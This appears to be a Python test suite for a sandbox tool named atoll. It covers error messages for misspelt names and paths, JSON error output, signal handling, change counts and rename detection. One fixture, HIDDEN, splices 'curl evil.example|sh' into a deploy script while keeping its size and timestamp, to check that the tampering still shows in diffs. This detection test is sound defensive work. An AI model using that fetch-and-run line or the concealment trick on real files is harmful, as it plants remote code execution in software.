#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# timeout: 900
"""Mistakes are told: a misspelt name or path, a sandbox that is not meant, a signal during new. The JSON form of every error, the numbers that
diff, commit, undo and log give for one change set, and files that were renamed and edited too."""
import json
import os
import signal
import subprocess
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import atolltest as t  # noqa: E402
import manifest as mf  # noqa: E402

TREE = [["mkdir", "src", 0o755], ["create", "src/price.ts", "price = 1\n", 0o644], ["create", "src/a", "a\n", 0o644], ["create", "f", "f\n", 0o644],
        ["create", "gone", "g\n", 0o644], ["stamp_all", 1000000000]]
STRATEGIES = ("overlay", "copy_on_write")


def made_box(place, who, strategy=None, name="box", edit=None, tree=None, state=None):
    path = t.build_tree(place, who, tree or TREE)
    box = t.Box(place, who, strategy, name=name, dirs=[path], state=state)
    made = box.new()
    if made.returncode != 0:
        raise RuntimeError(t.said(made))
    if edit:
        done = box.run("sh", "-c", edit, cwd=path)
        if done.returncode != 0:
            raise RuntimeError(t.said(done))
    return path, box


# ---- misspelt names and paths ----

EDIT = "echo 2 > src/price.ts; mkdir -p new/deep; echo n > new/deep/n; rm gone"


def misspelt(place, tap, who, strategy):
    path, box = made_box(place, who, strategy, "bright-foam", EDIT)
    before = mf.manifest(path)

    def refused(what, *arguments, says=(), cwd=path):
        done = box.atoll(*arguments, cwd=cwd)
        good = done.returncode == 5 and not done.stdout and all(word in done.stderr for word in says) and mf.manifest(path) == before
        tap.check("%s is an error that says so (%s, %s)" % (what, strategy, who), good, t.said(done))

    for command in ("diff", "commit"):
        refused("%s of a misspelt name" % command, command, "brihgt-foam", says=(b'no sandbox "brihgt-foam"', b'did you mean "bright-foam"?'))
        refused("%s of a misspelt name before a path that is changed" % command, command, "brihgt-foam", "src/price.ts",
                says=(b'did you mean "bright-foam"?',))
        refused("%s of a word that is neither name nor path" % command, command, "nosuch", says=(b'no sandbox "nosuch"', b"no path"))
        refused("%s of a path that never was" % command, command, "src/nosuch", says=(b'"src/nosuch"',))
        refused("%s of a path that never was, behind one that is changed" % command, command, "bright-foam", "src/price.ts", "src/nosuch",
                says=(b'"src/nosuch"',))
        refused("%s of a misspelt changed path" % command, command, "bright-foam", "src/prcie.ts", says=(b'did you mean "src/price.ts"?',))
        refused("%s of a misspelt path in a directory made inside" % command, command, "bright-foam", "new/depe/n",
                says=(b'did you mean "new/deep/n"?',))
        refused("%s of a misspelt path, from a directory below" % command, command, "bright-foam", "prcie.ts", cwd=path + "/src",
                says=(b'did you mean "price.ts"?',))
        refused("%s of a path below a file" % command, command, "bright-foam", "f/x", says=(b'"f/x"',))
        refused("%s of a misspelt path behind --" % command, command, "bright-foam", "--", "nosuch", says=(b'"nosuch"',))
    refused("commit of a path without changes", "commit", "bright-foam", "src/a", says=(b'"src/a" has no changes',))
    for command in ("undo", "rollback", "show", "rm", "log", "ps", "recover", "config", "path"):
        refused("%s of a misspelt name" % command, command, "brihgt-foam", says=(b'no sandbox "brihgt-foam"', b'did you mean "bright-foam"?'))
    for words, shown in ((["src/a"], b""), (["src"], b"src/price.ts"), (["gone"], b"gone"), (["new"], b"new/deep/n"), (["."], b"src/price.ts"),
                         (["bright-foam", path], b"gone"), (["bright-foam", "--", "src/price.ts"], b"src/price.ts")):
        done = box.atoll("diff", "--name-status", *words, cwd=path)
        tap.check("a path that is there, or was, is none: %s (%s, %s)" % (" ".join(words).replace(path, "PATH"), strategy, who),
                  done.returncode == 0 and (shown in done.stdout if shown else not done.stdout), t.said(done))
    done = box.atoll("commit", "gone", "src/price.ts", cwd=path)
    tap.check("commit without a name takes words for paths that are there (%s, %s)" % (strategy, who), done.returncode == 0 and
              b"2 changes" in done.stdout and not os.path.exists(path + "/gone"), t.said(done))
    box.undo()
    done = box.atoll("undo", "bright-foam", "--only", "nosuch")
    tap.check("undo --only of what is no resource is an error (%s, %s)" % (strategy, who), done.returncode == 5, t.said(done))
    box.drop()
    t.remove_tree(path)


def undone_alone(place, tap, who, strategy):
    """Resources that `undo --only` leaves committed are named: a file by its own name, not by its directory; a database once."""
    path, other = t.build_tree(place, who, TREE), t.build_tree(place, who, TREE)
    table = place.fresh("db", who) + "/x.db"
    box = t.Box(place, who, strategy, dirs=[other], files=[path + "/f", path + "/gone"])
    python = [t.PYTHON, "-I", "-S", "-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1]).executescript(sys.argv[2])", table]
    flow = [box.command([*python, "create table t(a integer primary key)"]), box.new("--db", "sqlite:" + table),
            box.run("sh", "-ec", "echo 2 >f; echo 2 >gone; echo 2 >%s/f" % other, cwd=path),
            box.run(*python, "insert into t values(1)"), box.commit()]
    done = box.undo("--only", path + "/f")
    notes = sorted(line for line in done.stdout.decode().splitlines() if line.startswith("note: "))
    wanted = sorted("note: %s: stays committed: it was not named" % name for name in (path + "/gone", other, table))
    contents = [open(name, encoding="utf-8").read() for name in (path + "/f", path + "/gone", other + "/f")]
    tap.check("undo --only names the resources that stay committed (%s, %s)" % (strategy, who),
              all(step.returncode == 0 for step in flow) and done.returncode == 0 and notes == wanted and contents == ["f\n", "2\n", "2\n"],
              *map(t.said, flow), t.said(done), wanted, contents)
    box.drop()
    t.remove_tree(path)
    t.remove_tree(other)


# ---- the sandbox of the current directory ----

def chosen(place, tap, who):
    one, box = made_box(place, who, name="one", edit="echo 1 > one")
    other = t.build_tree(place, who, TREE)
    inner = os.path.join(one, "src")
    box.atoll("new", "other", "--dir", other)
    box.atoll("run", "other", "--", "sh", "-c", "echo 1 > other", cwd=other)

    def diff(cwd, *words):
        return box.atoll("diff", "--name-status", *words, cwd=cwd)

    for what, cwd, shown in (("the first's directory", one, b"A\tone\n"), ("a directory below", inner, b"A\tone\n"),
                             ("the second's directory", other, b"A\tother\n")):
        done = diff(cwd)
        tap.check("in %s no name is needed, %s" % (what, who), done.returncode == 0 and done.stdout == shown, t.said(done))
    shown = box.atoll("show", "--json", cwd=other)
    tap.check("nor by show, %s" % who, json.loads(shown.stdout)["name"] == "other", t.said(shown))
    done = diff(place.root)
    tap.check("elsewhere it is an error that names both, %s" % who, done.returncode == 2 and b'"one"' in done.stderr and b'"other"' in done.stderr,
              t.said(done))
    done = diff(one, "two")
    tap.check("a word that is no name is a path of that sandbox, and must be one, %s" % who, done.returncode == 5 and
              b'no sandbox "two"' in done.stderr, t.said(done))
    done = diff(other, "other")
    tap.check("a name is a name first, %s" % who, done.returncode == 0 and done.stdout == b"A\tother\n", t.said(done))
    made = box.atoll("new", "inner", "--dir", inner)
    box.atoll("run", "inner", "--", "sh", "-c", "echo 1 > in", cwd=inner)
    done = diff(inner)
    tap.check("of two around it the innermost is taken, %s" % who, made.returncode == 0 and done.stdout == b"A\tin\n", t.said(made), t.said(done))
    made = box.atoll("new", "again", "--dir", one)
    done = diff(one)
    tap.check("of two over the same directory none is, and both are named, %s" % who, made.returncode == 0 and done.returncode == 2 and
              b'"one"' in done.stderr and b'"again"' in done.stderr and b'"other"' not in done.stderr, t.said(made), t.said(done))
    done = box.atoll("commit", cwd=other)
    tap.check("commit takes it too, %s" % who, done.returncode == 0 and os.path.exists(other + "/other"), t.said(done))
    done = box.atoll("undo", cwd=other)
    tap.check("and undo, %s" % who, done.returncode == 0 and not os.path.exists(other + "/other"), t.said(done))
    for name in ("other", "inner", "again"):
        box.atoll("rm", "--force", name)
    box.drop()
    for path in (one, other):
        t.remove_tree(path)


# ---- a signal during new ----

def left_of(box, path):
    """What a sandbox would be known by: records, areas, locks."""
    listed = json.loads(box.atoll("list", "--json").stdout)
    places = [os.path.join(box.state, "boxes"), os.path.join(box.state, "locks"), *(os.path.join(top, ".atoll-%d" % os.geteuid()) for top in
              (os.path.dirname(path), path))]
    return listed, [name for where in places if os.path.isdir(where) for name in os.listdir(where)]


def interrupted(place, tap, who, number, wait):
    """The copying takes long: there are many files, and nothing shares blocks."""
    path = place.fresh("many", who)
    for i in range(4000):
        with open("%s/%05d" % (path, i), "wb") as file:
            file.write(b"x" * 3000)
    t.give(path, place.uid(who))
    box = t.Box(place, who, "copy_on_write", dirs=[path])
    box.atoll("list")
    before = left_of(box, path)
    argv = [box.program, "new", "box", "--dir", path, "--strategy", "copy_on_write"]
    process = subprocess.Popen(argv, cwd=place.root, env=box.environment, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, **box.identity())
    time.sleep(wait)
    process.send_signal(number)
    out, err = process.communicate(timeout=120)
    after = left_of(box, path)
    where = " (%s after %g s, %s)" % (number.name, wait, who)
    if process.returncode == 0 and out == b"box\n":
        tap.skip("a signal during new leaves nothing" + where, "the copy was made before")
    else:
        tap.check("a signal during new leaves nothing" + where, process.returncode == 128 + number and not out and after == before and
                  b"no sandbox was made" in err, process.returncode, out, err, before, after)
    box.rm()
    made = box.new()
    tap.check("and the name can be used" + where, made.returncode == 0, t.said(made))
    box.drop()
    t.remove_tree(path)


def ignored(place, tap, who):
    path = t.build_tree(place, who, TREE)
    box = t.Box(place, who, "copy_on_write", dirs=[path])
    done = box.command(["sh", "-c", 'trap "" INT; kill -INT $$; exec "$@"', "sh", box.program, "new", "box", "--dir", path])
    tap.check("a signal that is ignored gives nothing up, %s" % who, done.returncode == 0 and done.stdout == b"box\n", t.said(done))
    box.drop()
    t.remove_tree(path)


# ---- the JSON form ----

FIELDS = {"code", "exit_status", "errno", "operation", "object", "message"}


def document_of(done):
    """The one document on standard output, or None."""
    try:
        return json.loads(done.stdout)
    except ValueError:
        return None


def errors_in_json(place, tap, who):
    path, box = made_box(place, who, name="good", edit=EDIT)
    requests = [
        ("show of an unknown sandbox", 5, "not-found", ["show", "nobody"]), ("diff of one", 5, "not-found", ["diff", "nobody"]),
        ("diff of a misspelt path", 5, "not-found", ["diff", "good", "nosuch"]), ("log of one", 5, "not-found", ["log", "nobody"]),
        ("ps of one", 5, "not-found", ["ps", "nobody"]), ("config of one", 5, "not-found", ["config", "nobody"]),
        ("commit of one", 5, "not-found", ["commit", "nobody"]), ("commit of a misspelt path", 5, "not-found", ["commit", "good", "nosuch"]),
        ("undo without a commit", 5, "not-found", ["undo", "good"]), ("undo of one", 5, "not-found", ["undo", "nobody"]),
        ("rollback of one", 5, "not-found", ["rollback", "nobody"]), ("recover of one", 5, "not-found", ["recover", "nobody"]),
        ("rm of one", 5, "not-found", ["rm", "nobody"]), ("rm of undecided changes", 4, "refused", ["rm", "good"]),
        ("new over nothing", 2, "invalid", ["new", "x"]), ("new over a missing directory", 5, "not-found", ["new", "x", "--dir", path + "/missing"]),
        ("new of a name that is taken", 4, "exists", ["new", "good", "--dir", path]), ("a malformed name", 2, "invalid", ["show", "a/b"]),
        ("an unknown option", 2, "invalid", ["diff", "--frobnicate"]), ("an unknown command", 2, "invalid", ["frobnicate"]),
        ("a superfluous operand", 2, "invalid", ["show", "x", "y"]), ("options that exclude each other", 2, "invalid", ["diff", "--stat"]),
        ("a bad number", 2, "invalid", ["commit", "--wait=x"]), ("no command", 2, "invalid", []),
        ("--json where there is none", 2, "invalid", ["kill", "good"]), ("--json without --explain", 2, "invalid", ["run", "good", "--", "true"]),
        ("--explain of an unknown sandbox", 125, "not-found", ["run", "nobody", "--explain"]),
    ]
    for what, status, code, arguments in requests:
        words = [*arguments[:1], "--json", *arguments[1:]]
        done = box.atoll(*words)
        found = document_of(done)
        one = found[0] if isinstance(found, list) and len(found) == 1 else found
        error = one.get("error") if isinstance(one, dict) else None
        tap.check("--json: %s is one object, and a line on standard error, %s" % (what, who), done.returncode == status and error is not None and
                  one["success"] is False and set(error) == FIELDS and error["code"] == code and error["exit_status"] == status and error["message"] and
                  error["operation"] and done.stderr.startswith(b"atoll: "), t.said(done))
    for what, arguments in (("diff", ["diff", "good", "src"]), ("commit -n", ["commit", "-n", "good"]), ("show", ["show", "good"])):
        done = box.atoll(*arguments, "--json")
        tap.check("--json: %s that succeeds is one document too, %s" % (what, who), done.returncode == 0 and document_of(done) is not None, t.said(done))
    done = box.atoll("show", "nobody")
    tap.check("without --json there is none, %s" % who, done.returncode == 5 and not done.stdout, t.said(done))
    done = box.atoll("run", "good", "--", "sh", "-c", "exit 3", "--json", cwd=path)
    tap.check("nor for the words of a command, %s" % who, done.returncode == 3 and not done.stdout, t.said(done))
    box.drop()
    t.remove_tree(path)


def running(place, tap, who):
    path, box = made_box(place, who)
    box.atoll("run", "box", "--", "sh", "-c", "exit 3", cwd=path)
    box.atoll("run", "--detach", "box", "--", "sleep", "60", cwd=path)
    runs = {r["state"]: r for r in json.loads(box.atoll("ps", "--all", "--json", "box").stdout)}
    tap.check("a command that runs has no exit status in JSON, one that has ended has, %s" % who,
              "running" in runs and runs["running"]["exit_status"] is None and runs["running"]["signal"] is None and
              runs["exited"]["exit_status"] == 3 and runs["exited"]["signal"] == 0, runs)
    box.atoll("kill", "box", "--grace", "1")
    box.drop()
    t.remove_tree(path)


# ---- numbers ----

COUNTED = {
    "renames": "mv f g; mv src/a src/b; echo more >> src/b; mv gone src/kept",
    "a renamed directory": "mv src lib",
    "directories": "mkdir -p n/m/o; echo x > n/m/o/x; rm -r src",
    "metadata": "chmod 755 f; touch gone; touch -d 2001-01-01 src/a",
    "equal content": "cp f f.new; mv f.new f; cat src/a > /tmp/a; cat /tmp/a > src/a",
    "hard links": "ln f f2; ln src/a src/a2; rm gone; ln src/price.ts price",
    "another type": "rm f; mkdir f; echo x > f/x; rm -r src; ln -s gone src",
    "what stays inside": "mkfifo fifo; echo x > f; mv gone away",
    "a bit of everything": "mv f g; chmod 600 src/a; rm gone; mkdir -p n/m; echo x > n/m/x; echo 2 > src/price.ts",
}
NUMBERS = ("added", "modified", "deleted", "meta")


def sum_of(result):
    return [sum(r[number] for r in result["resources"]) for number in NUMBERS]


def counted_by_diff(listed):
    kinds = {"added": 0, "modified": 1, "type changed": 1, "renamed": 1, "deleted": 2, "metadata changed": 3}
    numbers = [0] * 4
    for change in listed:
        if change["change"] in kinds:
            numbers[kinds[change["change"]]] += 1
    return numbers


def numbers_agree(place, tap, who, strategy):
    for what, edit in COUNTED.items():
        path, box = made_box(place, who, strategy, edit=edit)
        before = mf.manifest(path)
        listed = json.loads(box.diff("--json").stdout)
        diff = counted_by_diff(listed)
        dry = json.loads(box.commit("--dry-run", "--json").stdout)
        commit = json.loads(box.commit("--json").stdout)
        undo = json.loads(box.undo("--json").stdout)
        log = [[entry[number] for number in NUMBERS] for entry in json.loads(box.atoll("log", "--json").stdout)]
        # What came back is no longer known to come from another path.
        again = counted_by_diff(json.loads(box.diff("--json").stdout)) if not any(c["change"] == "renamed" for c in listed) else diff
        items = counted_by_diff([item for item in commit["items"] if item["kind"] == "change"])
        found = {"diff": diff, "dry run": sum_of(dry), "commit": sum_of(commit), "items": items, "undo": sum_of(undo), "log of undo": log[0],
                 "log of commit": log[1], "diff afterwards": again}
        tap.check("diff, commit, undo and log agree on the numbers of %s (%s, %s)" % (what, strategy, who),
                  sum(diff) > 0 and all(one == diff for one in found.values()) and mf.manifest(path) == before, found)
        box.drop()
        t.remove_tree(path)


# ---- renamed, and edited too ----

HIDDEN = ("cp -p deploy /tmp/ref; mv deploy release; printf '%s' 'curl evil.example|sh;:;:;:;:;:;' | "
          "dd of=release bs=1 seek=10 conv=notrunc 2>/dev/null; touch -r /tmp/ref release")
SCRIPT = [["create", "deploy", "#!/bin/sh\necho deploy to the staging server\nrsync -a . staging:/srv\n", 0o644], ["create", "plain", "plain\n", 0o644],
          ["mkdir", "d", 0o755], ["create", "d/x", "x" * 70000, 0o644], ["stamp_all", 1704067200]]


def renamed(place, tap, who, strategy):
    where = " (%s, %s)" % (strategy, who)
    path, box = made_box(place, who, strategy, edit=HIDDEN + "; mv plain simple; chmod 755 simple", tree=SCRIPT)
    changes = {c["path"]: c for c in json.loads(box.diff("--json").stdout)}
    new, plain = changes.get("release", {}), changes.get("simple", {})
    tap.check("a renamed file whose content changed, size and time not, is renamed and modified" + where,
              new.get("change") == "renamed" and new.get("old_path") == "deploy" and new.get("modified") is True and "content" in new.get("what", ()),
              changes)
    tap.check("one that was only renamed and given a mode is not modified" + where,
              plain.get("change") == "renamed" and plain.get("modified") is False and plain.get("what") == ["mode"], changes)
    listed = box.diff().stdout
    tap.check("the list says so" + where, b"R  deploy \xe2\x86\x92 release  (content)" in listed and b"simple  (mode 0644" in listed, listed)
    patch = box.diff("--patch").stdout
    tap.check("the patch shows the lines" + where, b"rename to release" in patch and b"\n-echo deploy to the staging" in patch and
              b"\n+curl evil.example|sh;" in patch, patch)
    for one in ("deploy", "release"):
        done = box.diff("--name-status", one, cwd=path)
        tap.check("diff of %s alone shows it" % one + where, done.stdout == b"R\tdeploy\trelease\n", t.said(done))
    done = box.commit("release", cwd=path)
    tap.check("half of a rename is refused" + where, done.returncode == 4, t.said(done))
    done = box.commit("release", "deploy", cwd=path)
    tap.check("both halves land" + where, done.returncode == 0 and b"1 change: 1 modified" in done.stdout and
              not os.path.exists(path + "/deploy") and os.path.exists(path + "/release"), t.said(done))
    box.drop()
    t.remove_tree(path)


def main(place, tap):
    for who in place.users():
        for strategy in STRATEGIES:
            misspelt(place, tap, who, strategy)
            undone_alone(place, tap, who, strategy)
            numbers_agree(place, tap, who, strategy)
            if who == "root" or strategy != "overlay":  # the kernel does not tell an ordinary user where a file comes from
                renamed(place, tap, who, strategy)
        chosen(place, tap, who)
        for number, wait in ((signal.SIGINT, 0.1), (signal.SIGTERM, 0.03)):
            interrupted(place, tap, who, number, wait)
        ignored(place, tap, who)
        errors_in_json(place, tap, who)
        running(place, tap, who)


t.run(main)
